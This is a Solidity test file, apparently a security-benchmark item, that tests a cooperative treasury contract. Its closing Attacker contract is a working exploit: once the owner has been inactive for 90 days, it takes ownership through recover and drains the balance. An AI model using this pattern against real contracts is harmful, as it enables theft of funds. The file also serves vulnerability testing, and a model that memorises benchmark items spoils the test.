// SPDX-License-Identifier: Apache-2.0
// canary: assay-canary-41a3d8e0-33a4-4d15-bd79-f75e2332e286
pragma solidity 0.8.30;

import "./CoopTreasury.sol";

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert() external;
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    CoopTreasury internal treasury;
    Attacker internal intruder;
    address internal board;
    address internal auditor;
    address internal crew;

    function setUp() public {
        vm.warp(1800000000);
        board = vm.addr(0xB0A2D);
        auditor = vm.addr(0xA0D17);
        crew = vm.addr(0xC2E3);
        vm.prank(board);
        treasury = new CoopTreasury(auditor);
        vm.deal(address(treasury), 40 ether);
        vm.prank(board);
        treasury.setBudget(crew, 2 ether);
        intruder = new Attacker(treasury);
    }

    function test_Regular() public {
        address heir = vm.addr(0x4E12);
        require(treasury.owner() == board, "board owns");

        vm.prank(crew);
        treasury.draw(1.5 ether);
        require(crew.balance == 1.5 ether && treasury.left(crew) == 0.5 ether, "crew drew");
        vm.prank(crew);
        vm.expectRevert();
        treasury.draw(1 ether);
        vm.expectRevert();
        treasury.draw(1);
        vm.warp(block.timestamp + 30 days);
        require(treasury.left(crew) == 2 ether, "budget renewed");

        vm.prank(board);
        treasury.pay(heir, 1 ether, "roof");
        require(heir.balance == 1 ether, "paid");
        vm.expectRevert();
        treasury.pay(address(this), 1 ether, "mine");
        vm.expectRevert();
        treasury.setGuardian(address(this));
        vm.expectRevert();
        treasury.acceptOwnership();

        // not a guardian and no silence: closed on both sources
        vm.expectRevert();
        treasury.recover(address(this));

        vm.prank(board);
        treasury.nominate(heir);
        vm.prank(heir);
        treasury.acceptOwnership();
        require(treasury.owner() == heir, "passed on");

        vm.prank(heir);
        treasury.checkIn();
        vm.warp(block.timestamp + 90 days);
        vm.prank(auditor);
        vm.expectRevert();
        treasury.recover(auditor);
        vm.prank(auditor);
        treasury.recover(board);
        require(treasury.owner() == board, "recovered");
        require(treasury.lastActed() == block.timestamp, "clock restarted");

        uint256 held = address(treasury).balance;
        (bool ok, ) = address(treasury).call{value: 1 ether}("");
        require(ok && address(treasury).balance == held + 1 ether, "paid in");
        vm.prank(board);
        treasury.setGuardian(crew);
        require(treasury.guardian() == crew, "another guardian");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Nobody but the owner acts as the owner.
    function test_RefusesStrangers() public {
        refuses(crew, CoopTreasury.OwnerOnly.selector);
        treasury.checkIn();
        refuses(crew, CoopTreasury.OwnerOnly.selector);
        treasury.setBudget(crew, 9 ether);
        refuses(crew, CoopTreasury.OwnerOnly.selector);
        treasury.pay(crew, 1, "");
        refuses(crew, CoopTreasury.OwnerOnly.selector);
        treasury.nominate(crew);
    }

    /// Guardians, crews and successors are somebody, and a guardian somebody else.
    function test_RefusesAddresses() public {
        bytes4 bad = CoopTreasury.BadAddress.selector;
        try new CoopTreasury(address(0)) {
            revert("no guardian");
        } catch (bytes memory why) {
            require(bytes4(why) == bad, "guardian");
        }
        try new CoopTreasury(address(this)) {
            revert("its own guardian");
        } catch (bytes memory why) {
            require(bytes4(why) == bad, "guardian");
        }
        refuses(board, bad);
        treasury.setGuardian(address(0));
        refuses(board, bad);
        treasury.setGuardian(board);
        refuses(board, bad);
        treasury.setBudget(address(0), 1);
        refuses(auditor, bad);
        treasury.recover(address(0));
        refuses(board, CoopTreasury.PaymentRefused.selector);
        treasury.pay(address(this), 1, "takes no ether");
    }

    function exploit() public {
        vm.warp(treasury.lastActed() + 90 days);
        intruder.run();
    }

    function test_Exploit() public {
        require(treasury.owner() == board, "board owns before");
        exploit();
        require(treasury.owner() == address(intruder), "owner unchanged");
    }

    function target() public view returns (address) {
        return address(treasury);
    }

    function attacker() public view returns (address) {
        return address(intruder);
    }
}

contract Attacker {
    CoopTreasury internal treasury;

    constructor(CoopTreasury treasury_) {
        treasury = treasury_;
    }

    function run() external {
        treasury.recover(address(this));
        treasury.pay(address(this), address(treasury).balance, "");
    }

    receive() external payable {}
}
